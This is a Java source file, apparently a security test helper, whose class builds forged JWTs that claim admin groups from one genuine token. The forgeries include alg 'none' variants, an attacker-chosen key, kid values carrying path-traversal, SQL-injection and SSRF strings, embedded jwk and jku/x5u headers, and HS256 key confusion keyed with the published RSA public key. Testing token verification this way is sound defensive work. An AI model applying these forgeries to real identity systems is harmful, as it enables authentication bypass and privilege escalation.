package org.cartora.platform;

import static java.nio.charset.StandardCharsets.UTF_8;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.math.BigInteger;
import java.security.GeneralSecurityException;
import java.security.KeyFactory;
import java.security.PublicKey;
import java.security.interfaces.RSAPublicKey;
import java.security.spec.RSAPublicKeySpec;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/** Makes tokens that the identity provider never made, from one that it did. Each of them claims to be an admin. */
final class Forger {

    private static final ObjectMapper MAPPER = new ObjectMapper();

    private final String head;
    private final String signature;
    private final ObjectNode claims;
    private final TrustedKey own;
    private final Map<String, String> found = new LinkedHashMap<>();

    Forger(String honest) {
        var parts = honest.split("\\.", -1);
        head = new String(Base64.getUrlDecoder().decode(parts[0]), UTF_8);
        signature = parts[2];
        claims = (ObjectNode) Identity.claims(honest);
        claims.putArray("groups").add("admin").add("manager");
        own = TrustedKey.named(head().path("kid").asText());
    }

    /** Each forgery by its name. */
    Map<String, String> forgeries(JsonNode published) {
        withoutSignature();
        withOwnKey();
        published.path("keys").forEach(this::withPublished);
        found.put("HMAC by nothing", hmac(head().put("alg", "HS256"), new byte[] {0}));
        return found;
    }

    private void withoutSignature() {
        for (var none : List.of("none", "None", "NONE", "nOnE", "")) {
            var unsigned = unsigned(head().put("alg", none));
            found.put("algorithm '" + none + "'", unsigned + ".");
            found.put("algorithm '" + none + "' with the old signature", unsigned + "." + signature);
        }
        found.put("changed claims under the old signature", unsigned(head()) + "." + signature);
        found.put("no signature", unsigned(head()) + ".");
    }

    private void withOwnKey() {
        found.put("a key of one's own under the real id", signed(head()));
        for (var id : List.of(
                "", "own", "../../../../dev/null", "' union select 'k", own.id() + "\0", "http://127.0.0.1:1/keys")) {
            found.put("a key of one's own named " + id, signed(head().put("kid", id)));
        }
        found.put("a key of one's own without a name", signed(head().without("kid")));
        found.put("a key in the token", signed(head().set("jwk", jwk())));
        found.put(
                "a key at an address",
                signed(head().put("jku", "http://127.0.0.1:1/k").put("x5u", "http://127.0.0.1:1/k")));
        found.put(
                "a claim that need not be understood",
                signed(head().set("crit", MAPPER.createArrayNode().add("exp"))));
        found.put("the algorithm of a shared secret", signed(head().put("alg", "HS256")));
    }

    /** What everybody may read, taken for a secret. */
    private void withPublished(JsonNode key) {
        var name = " of the published key " + key.path("kid").asText();
        var head = head().put("alg", "HS256").put("kid", key.path("kid").asText());
        var known = known(key);
        var body = Base64.getEncoder().encodeToString(known.getEncoded());
        found.put("HMAC by the bytes" + name, hmac(head, known.getEncoded()));
        found.put("HMAC by the text" + name, hmac(head, pem(body.replaceAll("(.{64})", "$1\n"))));
        found.put("HMAC by the line" + name, hmac(head, pem(body)));
        found.put(
                "HMAC by the modulus" + name, hmac(head, key.path("n").asText().getBytes(UTF_8)));
    }

    private ObjectNode head() {
        try {
            return (ObjectNode) MAPPER.readTree(head);
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    private String signed(JsonNode head) {
        return own.sign(head.toString(), claims);
    }

    private String unsigned(JsonNode head) {
        return TrustedKey.encoded(head.toString().getBytes(UTF_8))
                + '.'
                + TrustedKey.encoded(claims.toString().getBytes(UTF_8));
    }

    private String hmac(JsonNode head, byte[] secret) {
        try {
            var mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(secret, "HmacSHA256"));
            var text = unsigned(head);
            return text + '.' + TrustedKey.encoded(mac.doFinal(text.getBytes(UTF_8)));
        } catch (GeneralSecurityException e) {
            throw new AssertionError(e);
        }
    }

    private ObjectNode jwk() {
        var key = (RSAPublicKey) own.pair().getPublic();
        return MAPPER.createObjectNode()
                .put("kty", "RSA")
                .put("n", TrustedKey.encoded(key.getModulus().toByteArray()))
                .put("e", TrustedKey.encoded(key.getPublicExponent().toByteArray()));
    }

    private static PublicKey known(JsonNode key) {
        try {
            return KeyFactory.getInstance("RSA")
                    .generatePublic(new RSAPublicKeySpec(number(key, "n"), number(key, "e")));
        } catch (GeneralSecurityException e) {
            throw new AssertionError(e);
        }
    }

    private static BigInteger number(JsonNode key, String name) {
        return new BigInteger(1, Base64.getUrlDecoder().decode(key.path(name).asText()));
    }

    private static byte[] pem(String body) {
        return ("-----BEGIN PUBLIC KEY-----\n" + body + "\n-----END PUBLIC KEY-----\n").getBytes(UTF_8);
    }
}
